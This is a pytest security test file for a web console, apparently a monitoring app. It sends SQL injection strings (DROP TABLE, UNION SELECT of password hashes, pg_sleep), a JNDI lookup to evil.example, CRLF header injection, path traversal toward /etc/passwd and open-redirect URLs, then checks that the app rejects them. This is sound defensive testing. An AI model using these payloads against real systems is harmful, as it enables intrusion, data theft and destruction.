"""What people try who want in, or want others to suffer; docs/security.md lists each by name."""

import socket
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, expect
from psycopg.types.json import Jsonb

import console.users as console_users
from console.settings import ConsoleSettings
from geo.district import District
from store.database import connect
from tests.console import plausible
from tests.console.browsing import settle
from tests.console.conftest import PASSWORD, Hands, Running

EPISODE = "E-20260302-0149-XH07N-inc60"
INJECTIONS = (
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "1) UNION SELECT name, password_hash FROM users --",
    "%s %(name)s {0} ${jndi:ldap://evil.example/x}",
    "\\'; SELECT pg_sleep(30); --",
    "\x00",
    "😀 \u202e 𠮷",
)


@contextmanager
def console_with(district: District, dsn: str, settings: ConsoleSettings) -> Iterator[Running]:
    running = Running(district, dsn, now=Hands(plausible.NOW), settings=settings)
    try:
        yield running
    finally:
        running.stop()


def people(running: Running) -> list[Any]:
    with connect(running.dsn, name="test") as conn:
        return conn.execute("SELECT name, role, password_hash FROM users ORDER BY name").fetchall()


# Guessing -------------------------------------------------------------------------------------


def test_unknown_names_cost_the_same(console: Running, monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither answer nor work tells a name that exists from one that does not, or from one that is
    locked or shut out: each is one verification and the same number of lines in the record."""
    verified: list[str] = []
    real = console_users.matches

    async def counted(password_hash: str, password: str) -> bool:
        verified.append(password_hash)
        return await real(password_hash, password)

    monkeypatch.setattr(console_users, "matches", counted)
    with console.as_("boss") as boss:
        boss.patch("/api/v1/users/watcher", json={"disabled": True})
    answers = {}
    with console.as_(None) as client:
        for _ in range(5):
            client.post("/login", data={"name": "driver", "password": "wrong"})
        for name in ("operator", "no.such.name", "driver", "watcher"):
            verified.clear()
            lines = record(console)
            answer = client.post("/login", data={"name": name, "password": "wrong"})
            answers[name] = (
                answer.status_code,
                answer.text,
                len(verified),
                record(console) - lines,
            )
            assert verified[0].startswith("$argon2id$")
    assert len(set(answers.values())) == 1, {name: one[2:] for name, one in answers.items()}


def record(running: Running) -> int:
    with connect(running.dsn, name="test") as conn:
        found: int = conn.execute("SELECT count(*) FROM audit").fetchall()[0][0]
    return found


# Injection ------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", INJECTIONS, ids=range(len(INJECTIONS)))
def test_sql_in_every_text(console: Running, text: str) -> None:
    """In every parameter, path and body that takes a text: it stays a text or is refused, and the
    people are who they were."""
    before = people(console)
    description = httpx.get(f"{console.address}/api/v1/openapi.json", timeout=30).json()
    with console.as_("boss") as boss:
        asked = 0
        for path, methods in description["paths"].items():
            for method, operation in methods.items():
                if path.endswith("/live") or path.startswith("/api/v1/token"):
                    continue
                if method not in ("get", "delete"):
                    continue
                filled = path
                query = {}
                for parameter in operation.get("parameters", []):
                    if parameter["in"] == "path":
                        filled = filled.replace(
                            f"{{{parameter['name']}}}",
                            "x" if "form" in parameter["name"] else quoted(text),
                        )
                    elif parameter["in"] == "query":
                        query[parameter["name"]] = text
                answer = boss.request(method, filled.replace("{form}", "json"), params=query)
                asked += 1
                assert answer.status_code < 500, (method, path, answer.text)
        assert asked > 40
        comment = {"text": f"x{text}"}
        url = f"/api/v1/episodes/{EPISODE}/comment"
        said = boss.post(url, json=comment).json()["log"][-1]["detail"]["text"]
        assert said == f"x{text}".replace("\x00", "").strip()
        for name in (text, f"x{text}"):
            answer = boss.post("/login", data={"name": name, "password": text})
            assert answer.status_code in (401, 422)
    assert people(console) == before


def quoted(text: str) -> str:
    return str(httpx.QueryParams({"x": text}))[2:].replace("+", "%20")


def test_headers_cannot_be_added(still_console: Running) -> None:
    """A line break in what is asked for does not become a header of the answer."""
    with still_console.as_(None) as client:
        for path in (
            "/login?lang=en%0d%0aSet-Cookie:%20owned=1",
            "/texts/en%0d%0aX-Owned:%201.json",
            "/api/v1/episodes/x%0d%0aX-Owned:%201",
            "/%0d%0aX-Owned:%201",
        ):
            answer = client.get(path)
            assert "x-owned" not in answer.headers
            assert "owned" not in answer.headers.get("set-cookie", "")


@pytest.mark.parametrize(
    "path",
    [
        "/static/../users.py", "/static/..%2fusers.py", "/static/%2e%2e/users.py",
        "/static/....//users.py", "/static//etc/passwd", "/lib/vue/..%2f..%2f..%2fpyproject.toml",
        "/static/..%5cusers.py", "/static/%00", "/static/", "/lib/vue/",
        "/texts/..%2f..%2fsettings.json", "/api/v1/episodes/..%2f..%2fusers",
    ],
)  # fmt: skip
def test_files_stay_where_they_are(still_console: Running, path: str) -> None:
    """No way leads out of the folders that are served, and none lists them."""
    host, port = still_console.address.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=30) as line:
        line.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
        answer = b"".join(iter(lambda: line.recv(65536), b"")).decode("utf-8", "replace")
    status = int(answer.split()[1])
    assert "argon2" not in answer
    assert "root:" not in answer
    assert "[project]" not in answer
    # Languages are looked up by name: an unknown one is Chinese, not a file.
    assert status in (400, 401, 404) or (path.startswith("/texts/") and status == 200)


# Scripts --------------------------------------------------------------------------------------


def test_no_text_becomes_a_script(console: Running, browser: Browser) -> None:
    """Markup in comments, names, complaints, tokens, reasons and evidence is shown letter by letter
    on every page, and the browser would refuse to run it."""
    hostile = plausible.HOSTILE
    with connect(console.dsn, name="test") as conn:
        causes = [{"kind": "road", "probability": 0.9, "evidence": hostile}]
        conn.execute("UPDATE episodes SET causes = %s", [Jsonb(causes)])
        conn.execute("UPDATE orders SET reason = %s, outcome = %s", [hostile, hostile])
        conn.execute(
            "INSERT INTO reports VALUES"
            " ('x', 'R1', %(at)s, %(text)s, 113.89, 22.49, 'XH07N', 'dust', %(at)s)",
            {"at": plausible.NOW, "text": hostile},
        )
        conn.commit()
    with console.as_("boss") as boss:
        boss.post(f"/api/v1/episodes/{EPISODE}/comment", json={"text": hostile})
        boss.post("/api/v1/tokens", json={"name": hostile[:60], "scopes": ["read"]})
    context = browser.new_context()
    page = context.new_page()
    ran: list[str] = []
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda said: ran.append(said.text) if "Security" in said.text else None)
    page.goto(f"{console.address}/login?lang=en")
    page.fill("[name=name]", "boss")
    page.fill("[name=password]", PASSWORD)
    page.press("[name=password]", "Enter")
    page.wait_for_url(lambda url: not url.endswith("/login"))
    shown = ("/", "/alarms", "/board", "/reports", "/segments/XH07N")
    for path in (*shown, "/people#tokens", "/people#audit"):
        page.goto(f"{console.address}{path}")
        if "#" in path:
            page.reload()
            expect(page.locator(".list")).to_contain_text("<img src=x onerror")
        settle(page)
        assert page.locator("img[src='x']").count() == 0, path
        assert page.title() != "1", path
    assert ran == []
    context.close()


# Too much, too slow ---------------------------------------------------------------------------


def test_large_bodies(still_console: Running) -> None:
    """More than a megabyte is refused, whether its length is told or not, before it is read."""
    url = "/api/v1/me/password"
    with still_console.as_("watcher") as client:
        answer = client.post(url, content=b"x" * (2**20 + 1))
        assert answer.status_code == 413
        assert answer.headers["content-type"] == "application/problem+json"
        pieces = (b"x" * 65536 for _ in range(32))
        assert client.post(url, content=pieces).status_code == 413
        answer = client.post("/login", data={"name": "x", "password": "y" * 2**20})
        assert answer.status_code == 413
        deep = b"[" * 100_000
        headers = {"Content-Type": "application/json"}
        assert client.post(url, content=deep, headers=headers).status_code in (400, 422)
        assert client.get("/api/v1/me").status_code == 200


def test_slow_bodies(district: District, console_db: str) -> None:
    """A body that does not arrive in time is not waited for."""
    with console_with(district, console_db, ConsoleSettings(body_s=0.5)) as running:
        host, port = running.address.removeprefix("http://").split(":")
        with socket.create_connection((host, int(port)), timeout=30) as line:
            line.sendall(
                b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n"
                b"Content-Type: application/x-www-form-urlencoded\r\n\r\nname=a"
            )
            answer = b"".join(iter(lambda: line.recv(65536), b""))
    assert answer.startswith(b"HTTP/1.1 408")


# Where one is sent, and under which name ------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    ["/login?next=//evil.example", "/login?next=https://evil.example", "//evil.example/",
     "/login/", "/%2f%2fevil.example", "/people/"],
)  # fmt: skip
def test_nobody_is_sent_elsewhere(still_console: Running, path: str) -> None:
    """Every redirect stays here, whatever was asked for and whatever name we were called by."""
    form = {"name": "operator", "password": PASSWORD}
    for host in ("evil.example", "127.0.0.1"):
        headers = {"Host": host, "X-Forwarded-Host": "evil.example"}
        with still_console.as_(None) as client:
            for answer in (
                client.get(path, headers=headers),
                client.post(path, data=form, headers=headers),
            ):
                location = answer.headers.get("location", "/")
                assert location.startswith("/")
                assert not location.startswith("//")


def test_only_known_names(district: District, console_db: str) -> None:
    """Where names are set, the console is reached under no other."""
    settings = ConsoleSettings(hosts=("dust.example", "127.0.0.1"))
    with console_with(district, console_db, settings) as running, running.as_(None) as client:
        for host, status in (
            ("dust.example", 200), ("DUST.example:443", 200), ("127.0.0.1:80", 200),
            ("evil.example", 400), ("", 400), ("dust.example.evil.example", 400),
        ):  # fmt: skip
            assert client.get("/login", headers={"Host": host}).status_code == status, host


# What is told when something goes wrong -------------------------------------------------------


def test_every_error_is_a_problem_and_tells_nothing(
    console: Running, monkeypatch: pytest.MonkeyPatch
) -> None:
    """404, 405, 422 and 500 are problem details with the headers of every answer; what failed stays
    in the log."""

    async def broken(*_: object, **__: object) -> None:
        raise RuntimeError("postgresql://roaddust:secret@db/roaddust")

    monkeypatch.setattr("console.api.state.rows", broken)
    with console.as_("watcher") as client:
        answers = {
            404: client.get("/nothing/here"),
            405: client.request("PUT", "/api/v1/me"),
            422: client.get("/api/v1/episodes", params={"limit": "many"}),
            500: client.get("/api/v1/segments/XH07N/history"),
        }
    for status, answer in answers.items():
        assert answer.status_code == status
        assert answer.headers["content-type"] == "application/problem+json"
        assert "script-src 'self'" in answer.headers["content-security-policy"]
        problem = answer.json()
        assert problem["status"] == status
        for secret in ("secret", "Traceback", "postgresql", "RuntimeError", ".py"):
            assert secret not in answer.text
